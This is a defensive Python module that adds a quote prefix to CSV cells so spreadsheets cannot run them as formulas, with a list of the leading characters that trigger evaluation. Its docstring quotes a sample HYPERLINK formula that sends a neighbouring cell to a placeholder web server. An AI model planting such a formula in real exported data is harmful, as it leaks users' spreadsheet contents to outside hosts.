"""Cells a spreadsheet cannot be tricked by: CSV (formula) injection neutralised in every CSV we write.

A reason, a carrier or a buyer-supplied text from the input file may start with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return; Excel, WPS and LibreOffice take such a cell as a formula when the CSV is opened
(``=HYPERLINK("http://…"&A1,"click")`` leaks the neighbouring cell to a web server). OWASP's CSV-injection
guidance: prefix such a cell with a single quote, which the spreadsheet shows as text and drops from the
value. The XLSX files store every cell as text already (``data_type = "s"``), so they need no prefix.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any, TextIO

#: The first characters that make a spreadsheet evaluate a cell (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The cell's text, with a leading ``'`` when a spreadsheet would take it as a formula.

    Args:
        value: any cell value; ``None`` becomes an empty cell.

    Returns:
        Text that every spreadsheet shows as it is.
    """
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[object]) -> list[str]:
    """A row of :func:`safe_cell` cells."""
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, handle: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, values: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write several rows."""
        for values in rows:
            self.writerow(values)


class SafeDictWriter:
    """``csv.DictWriter`` whose every cell goes through :func:`safe_cell` (header names are ours, left as they are)."""

    def __init__(self, handle: TextIO, fieldnames: list[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(handle, fieldnames=fieldnames, **kwargs)

    def writeheader(self) -> None:
        """Write the header row."""
        self._writer.writeheader()

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        """Write several rows."""
        self._writer.writerows({k: safe_cell(v) for k, v in row.items()} for row in rows)
